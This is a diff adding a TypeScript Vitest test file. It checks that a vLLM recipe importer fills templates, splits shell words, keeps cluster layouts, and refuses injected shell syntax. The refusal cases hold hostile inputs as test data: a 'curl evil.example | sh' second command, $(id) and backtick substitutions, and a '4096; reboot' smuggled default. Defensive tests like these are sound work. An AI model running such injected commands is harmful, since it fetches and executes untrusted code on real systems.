@@ -1,0 +1,128 @@
+import fs from 'node:fs'
+import path from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { readCommand, recipeToView, resolveTemplate, shellWords } from '../../../src-main/models/recipes'
+
+const ROOTS = ['/home', '/data', '/mnt', '/srv', '/opt/models']
+const SIM_RECIPES = path.resolve(__dirname, '../../sim/launcher/recipes')
+
+const recipe = (command: string, extra: Record<string, unknown> = {}): string =>
+  [
+    'name: Test-Recipe',
+    'description: a test recipe',
+    'defaults:',
+    '  port: 8000',
+    '  host: 0.0.0.0',
+    '  max_model_len: 32768',
+    ...Object.entries(extra).map(([k, v]) => `${k}: ${JSON.stringify(v)}`),
+    'command: |',
+    ...command.split('\n').map((l) => `  ${l}`),
+  ].join('\n')
+
+describe('recipe templates and words', () => {
+  it('fills {param} from defaults and keeps {{ }} as literal braces', () => {
+    expect(resolveTemplate('--x {a} \'{{"k":{b}}}\'', { a: 1, b: 'v' })).toBe('--x 1 \'{"k":v}\'')
+    expect(() => resolveTemplate('--x {missing}', {})).toThrow(/missing/)
+  })
+
+  it('splits like a shell for the plain subset: continuations and quotes', () => {
+    expect(shellWords('vllm serve a/b \\\n  --x \'{"a": 1}\' "two words"\n')).toEqual([
+      'vllm',
+      'serve',
+      'a/b',
+      '--x',
+      '{"a": 1}',
+      'two words',
+    ])
+  })
+
+  for (const bad of ['a; b', 'a && b', 'a | b', 'a > f', '$(id)', '`id`', 'x$HOME', 'a*', '"$HOME"', 'a{b,c}', '# c']) {
+    it(`refuses shell syntax: ${bad}`, () => expect(() => shellWords(`vllm serve ${bad}`)).toThrow())
+  }
+})
+
+describe('recipeToView', () => {
+  it('the simulated launcher recipes all import, with launcher flags dropped', () => {
+    const files = fs.readdirSync(SIM_RECIPES).filter((f) => f.endsWith('.yaml'))
+    expect(files.length).toBeGreaterThanOrEqual(3)
+    for (const f of files) {
+      const v = recipeToView(f, fs.readFileSync(path.join(SIM_RECIPES, f), 'utf8'), ROOTS)
+      expect(v.error, f).toBeNull()
+      expect(v.model?.engine_args).not.toContain('--port')
+      expect(v.model?.engine_args).not.toContain('--host')
+    }
+  })
+
+  it('cluster-only keeps its tensor-parallel layout; solo-capable ones drop it', () => {
+    const mm = recipeToView(
+      'minimax-m2.5-awq.yaml',
+      fs.readFileSync(path.join(SIM_RECIPES, 'minimax-m2.5-awq.yaml'), 'utf8'),
+      ROOTS,
+    )
+    expect(mm).toMatchObject({ name: 'minimax-m2.5-awq', solo: false, cluster: true, error: null })
+    expect(mm.model).toMatchObject({ key: 'minimax-m2.5-awq', repo: 'cyankiwi/MiniMax-M2.5-AWQ-4bit', mode: 'cluster' })
+    expect(mm.model?.engine_args).toEqual(expect.arrayContaining(['-tp', '2', '--distributed-executor-backend', 'ray']))
+    const glm = recipeToView(
+      'glm-4.7-flash-awq.yaml',
+      fs.readFileSync(path.join(SIM_RECIPES, 'glm-4.7-flash-awq.yaml'), 'utf8'),
+      ROOTS,
+    )
+    expect(glm).toMatchObject({ solo: true, cluster: true })
+    expect(glm.model?.mode).toBe('both')
+    expect(glm.model?.engine_args).not.toContain('-tp')
+    expect(glm.model?.engine_args.slice(0, 2)).toEqual(['--tool-call-parser', 'glm47'])
+    expect(glm.model?.engine_args).toEqual(expect.arrayContaining(['--max-model-len', '202752']))
+  })
+
+  it('the speculative-config JSON comes through with its braces resolved', () => {
+    const g = recipeToView(
+      'gemma4-26b-a4b-nvfp4.yaml',
+      fs.readFileSync(path.join(SIM_RECIPES, 'gemma4-26b-a4b-nvfp4.yaml'), 'utf8'),
+      ROOTS,
+    )
+    const args = g.model?.engine_args ?? []
+    expect(JSON.parse(args[args.indexOf('--speculative-config') + 1] as string)).toMatchObject({ method: 'mtp' })
+    expect(g).toMatchObject({ solo: true, cluster: false })
+  })
+
+  const refused: [string, string, Record<string, unknown>?][] = [
+    ['a command substitution', 'vllm serve acme/m --served-model-name $(id)'],
+    ['a second command', 'vllm serve acme/m; curl evil.example | sh'],
+    ['metacharacters in a default', 'vllm serve acme/m --max-model-len {max_model_len}'],
+    ['a quoted metacharacter argument', "vllm serve acme/m --served-model-name 'x`id`'"],
+    ['metacharacters in the model', "vllm serve 'acme/m;id'"],
+    ['a local path outside the roots', 'vllm serve /etc/models/m'],
+    ['not a vllm serve command', 'python -m vllm.entrypoints.openai.api_server --model acme/m'],
+    ['an unknown template parameter', 'vllm serve acme/m --x {nope}'],
+  ]
+  for (const [what, command, extra] of refused) {
+    it(`lists a recipe with ${what} as refused, with the reason and no model`, () => {
+      let text = recipe(command, extra)
+      if (what === 'metacharacters in a default')
+        text = text.replace('max_model_len: 32768', 'max_model_len: "4096; reboot"')
+      const v = recipeToView('bad-recipe.yaml', text, ROOTS)
+      expect(v.model).toBeNull()
+      expect(v.error).toEqual(expect.any(String))
+      expect(v.name).toBe('bad-recipe')
+      expect(v.error).not.toMatch(/not a recipe/)
+    })
+  }
+
+  it('a file that is not a recipe is listed as refused', () => {
+    expect(recipeToView('x.yaml', 'just: [text', ROOTS)).toMatchObject({ model: null, error: expect.any(String) })
+    expect(recipeToView('y.yaml', 'name: no command', ROOTS).error).toMatch(/not a recipe/)
+  })
+
+  it('notes mods and environment an import cannot apply', () => {
+    const v = recipeToView('n.yaml', recipe('vllm serve acme/m', { mods: ['mods/fix'], env: { A: '1' } }), ROOTS)
+    expect(v.model?.description).toMatch(/mods not applied: mods\/fix.*environment not applied: A/)
+  })
+})
+
+describe('readCommand', () => {
+  it('quotes the launcher directory: $HOME expands, an absolute path is single-quoted', () => {
+    expect(readCommand('$HOME/spark-vllm-docker', '@@m')).toContain('d="$HOME/spark-vllm-docker"/recipes')
+    expect(readCommand('/opt/launcher', '@@m')).toContain("d='/opt/launcher'/recipes")
+    expect(() => readCommand('/opt/la uncher;x', '@@m')).toThrow()
+  })
+})
